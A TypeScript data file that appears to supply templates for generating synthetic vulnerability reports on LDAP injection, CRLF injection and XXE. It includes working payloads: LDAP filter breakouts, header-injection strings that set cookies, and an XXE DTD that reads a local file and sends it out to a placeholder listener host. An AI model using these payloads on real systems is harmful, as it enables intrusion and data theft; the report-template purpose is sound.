import type { VulnerabilityClass } from './vulnerability-class.ts'

const ldapInjection: VulnerabilityClass = {
  key: 'ldap-injection',
  type: 'LDAP or directory injection',
  cwe: 90,
  weight: 1,
  surfaces: ['web', 'api'],
  shape: 'read',
  severities: [
    ['High', 4],
    ['Medium', 5],
  ],
  places: [
    { path: '«api»/directory/search', parameter: 'name' },
    { path: '/contacts/find', parameter: 'surname' },
    { path: '«api»/colleagues', parameter: 'filter' },
  ],
  titles: [
    'Blind LDAP injection lets me read attributes of any «staffRole»',
    'LDAP filter injection at «path» lists all accounts',
    'LDAP injection in the staff directory search (`«parameter»`)',
    'Wildcard and parenthesis in `«parameter»` show the whole directory (LDAP injection)',
  ],
  summaries: [
    'The search of `«path»` puts `«parameter»` into an LDAP filter as it comes. Closing the parenthesis and adding a condition of my own lets me ask for any attribute.',
    'With `*)(objectClass=*` in `«parameter»` the directory answers with every entry, also those that the page would filter out.',
  ],
  steps: [
    [
      'Open `«path»?«parameter»=smith`: one entry is found.',
      'Ask bit by bit for an attribute that is not shown: `smith)(employeeNumber=4*` answers with the entry, `smith)(employeeNumber=5*` does not.',
      'Go on with the next digit.',
    ],
    [
      'Open `«path»?«parameter»=smith`: one entry is found.',
      'Open `«path»?«parameter»=*)(objectClass=*`: every entry is found.',
    ],
  ],
  proofs: [
    [
      {
        say: 'True and false side by side:',
        lang: 'http',
        code: `GET «path»?«parameter»=smith%29%28employeeNumber%3D4%2A HTTP/1.1
Host: «host»

HTTP/1.1 200 OK
{"count":1}

GET «path»?«parameter»=smith%29%28employeeNumber%3D5%2A HTTP/1.1
Host: «host»

HTTP/1.1 200 OK
{"count":0}`,
      },
    ],
    [
      {
        say: 'Everything at once, cut after two entries:',
        lang: 'http',
        code: `GET «path»?«parameter»=%2A%29%28objectClass%3D%2A HTTP/1.1
Host: «host»
Cookie: «cookieName»=«session»

HTTP/1.1 200 OK
Content-Type: application/json

{"count":«big»,"entries":[
  {"cn":"A. Adler","mail":"a.adler@«domain»","title":"«staffRole»"},
  {"cn":"svc-backup","mail":null,"title":null}, …`,
      },
    ],
  ],
  impacts: [
    'All attributes in the directory can be read character by character: telephone numbers, employee numbers, group memberships. That is a list of targets for phishing «staffRole»s.',
    'Directory data of all employees of «company» is exposed to any «customer».',
  ],
  fixes: ['Escape the value for LDAP filters (RFC 4515) and limit the attributes that may be searched.'],
  notes: [
    'True/false answers reproduced. `userPassword` is not readable for the bind user, checked with the directory team.',
  ],
}

const crlfInjection: VulnerabilityClass = {
  key: 'crlf-injection',
  type: 'CRLF injection',
  cwe: 93,
  weight: 2,
  surfaces: ['web', 'infrastructure'],
  shape: 'click',
  severities: [
    ['Medium', 5],
    ['Low', 5],
  ],
  places: [
    { path: '/redirect', parameter: 'lang' },
    { path: '/«segment»/download', parameter: 'filename' },
    { path: '/set-region', parameter: 'region' },
  ],
  titles: [
    'CRLF injection in `«parameter»` sets a cookie on «host»',
    'Header injection through `«parameter»`: any response header can be added',
    'HTTP response splitting at «path» → cookie fixation',
    'CRLF injection at «path» (`«parameter»`)',
  ],
  summaries: [
    'Line breaks in `«parameter»` are written into the response head. I can add headers of my own, `Set-Cookie` included.',
    '`%0d%0a` in `«parameter»` ends the header line. Everything behind it is taken as further headers by the browser.',
  ],
  steps: [
    [
      'Open `https://«host»«path»?«parameter»=en%0d%0aSet-Cookie:%20«cookieName»=«handle»` in a fresh browser profile.',
      'Look at the cookies of «host»: `«cookieName»` has the value that came from the address.',
      'Sign in. The value stays the same.',
    ],
    [
      'Run the line below.',
      'The header of my choice is in the answer.',
      'With two line breaks the rest becomes the body.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Raw answer:',
        lang: 'http',
        code: `GET «path»?«parameter»=en%0d%0aSet-Cookie:%20«cookieName»=«handle» HTTP/1.1
Host: «host»

HTTP/1.1 302 Found
Server: «server»
Content-Language: en
Set-Cookie: «cookieName»=«handle»
Location: /`,
      },
    ],
    [
      {
        say: 'One line to check it:',
        lang: 'bash',
        code: `curl -si 'https://«host»«path»?«parameter»=en%0d%0aX-Injected:%20«handle»' | grep -i x-injected
X-Injected: «handle»`,
      },
    ],
  ],
  impacts: [
    'A link on the real domain can fix the session cookie of whoever follows it, and with a second pair of line breaks the body of the page.',
    'Headers such as `Access-Control-Allow-Origin` can be added, so that other protections fall.',
  ],
  fixes: ['Refuse control characters in header values; the framework does it when its own API is used.'],
  notes: [
    'Header appears with HTTP/1.1 only; over h2 the edge drops the request with 400. Browsers negotiate h2, so Low unless they show a way.',
  ],
}

const xxe: VulnerabilityClass = {
  key: 'xxe',
  type: 'XML external entities',
  cwe: 611,
  weight: 3,
  surfaces: ['web', 'api'],
  shape: 'read',
  severities: [
    ['Critical', 1],
    ['High', 6],
    ['Medium', 3],
  ],
  places: [
    { method: 'POST', path: '«collection»/import/xml', parameter: 'file' },
    { method: 'POST', path: '/soap/«segment»', parameter: 'body' },
    { method: 'POST', path: '/feeds/import', parameter: 'opml' },
    { method: 'POST', path: '«api»/partner/edi', parameter: 'message' },
  ],
  titles: [
    'Blind XXE through `«parameter»` at «path» (out of band)',
    'XXE in the «one» import reads local files of the server',
    'XML external entity injection in «path», file content leaves by HTTP',
    'XXE at «path»: the error message quotes `/etc/hostname`',
  ],
  summaries: [
    '`«path»` takes XML and follows external DTDs. I read `/etc/hostname` out of band; the same way leads to any text file the service may read.',
    'The parser behind `«path»` resolves external entities. A document with an entity that points to `file:///etc/hostname` gives back the content of that file.',
  ],
  steps: [
    [
      'Sign in as a «customer» and go to *Import*.',
      'Put the DTD below on a web server of your own.',
      'Upload the file `«handle».xml` to `«path»`.',
      'The web server gets a request whose query is the content of `/etc/hostname`.',
    ],
    [
      'Send the request below.',
      'The error message quotes the «one» that could not be found. Its name is the content of the file.',
    ],
  ],
  proofs: [
    [
      {
        say: 'What is uploaded:',
        lang: 'xml',
        code: `<?xml version="1.0"?>
<!DOCTYPE r [
  <!ENTITY % dtd SYSTEM "https://«listener»/x.dtd">
  %dtd;
]>
<import><name>&send;</name></import>`,
      },
      {
        say: '`x.dtd` on my side:',
        lang: 'xml',
        code: `<!ENTITY % file SYSTEM "file:///etc/hostname">
<!ENTITY % all "<!ENTITY send SYSTEM 'https://«listener»/?%file;'>">
%all;`,
      },
      {
        say: 'Access log of my server:',
        lang: 'text',
        code: '«ip» - - "GET /?«slug»-import-6d8f7c HTTP/1.1" 200 2 "-" "Java/21.0.4"',
      },
    ],
    [
      {
        say: 'In band, through the error message:',
        lang: 'http',
        code: `«method» «path» HTTP/1.1
Host: «host»
Cookie: «cookieName»=«session»
Content-Type: application/xml

<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>
<import><id>&x;</id></import>

HTTP/1.1 422 Unprocessable Content
{"error":"no «one» with id '«slug»-import-6d8f7c'"}`,
      },
    ],
  ],
  impacts: [
    'Files that the service can read leave the house: configuration, keys, other customers’ imports. The parser also reaches addresses inside the network.',
    'With the cloud metadata address in place of the file an attacker may get the credentials of the instance.',
  ],
  fixes: [
    'Switch off DTDs in the parser (`disallow-doctype-decl`), which is one line for the library in use.',
  ],
  notes: [
    'Callback from the import worker seen, hostname matches the pod. Egress is filtered to 443 only. High is right.',
  ],
}

export const protocolInjectionClasses: readonly VulnerabilityClass[] = [ldapInjection, crlfInjection, xxe]
